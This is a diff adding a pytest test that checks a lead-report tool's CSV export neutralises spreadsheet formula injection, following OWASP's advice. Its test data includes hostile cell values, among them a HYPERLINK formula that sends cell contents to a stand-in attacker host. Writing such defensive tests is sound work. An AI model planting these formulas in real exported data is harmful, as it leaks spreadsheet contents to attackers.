@@ -151,3 +151,25 @@ def test_the_text_report_names_reps_slack_knows(tmp_path: Path) -> None:
     result = run("report", "--week", "2026-W47", "--format", "json", env=env)
     names = [piece["name"] for piece in json.loads(result.stdout)["by_rep"]]
     assert "U0REP1" in names and "U0REP2" in names
+
+
+def test_csv_cells_from_web_forms_are_never_formulas(tmp_path: Path) -> None:
+    """A source or campaign a web form sent (utm_source=…) that starts with =, +, -, @, a tab or
+    a carriage return reads as text in a spreadsheet: OWASP's CSV Injection page asks for such
+    cells to be prefixed with a single quote. Numbers stay numbers, a minus sign included."""
+    env = imported(tmp_path)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "+1-2", "\t=1+1"]
+    with sqlite3.connect(tmp_path / "h.db") as database:
+        ids = [row[0] for row in database.execute("SELECT id FROM leads ORDER BY id LIMIT 4")]
+        for lead_id, text in zip(ids, hostile, strict=True):
+            database.execute("UPDATE leads SET source = ? WHERE id = ?", (text, lead_id))
+    result = run("report", "--week", "2026-W47", "--format", "csv", env=env)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
+    names = {row["name"] for row in rows if row["section"] == "source"}
+    assert {"'" + text for text in hostile} <= names, names
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            if cell.startswith("-"):
+                float(cell)  # a negative number, never text that starts with a minus
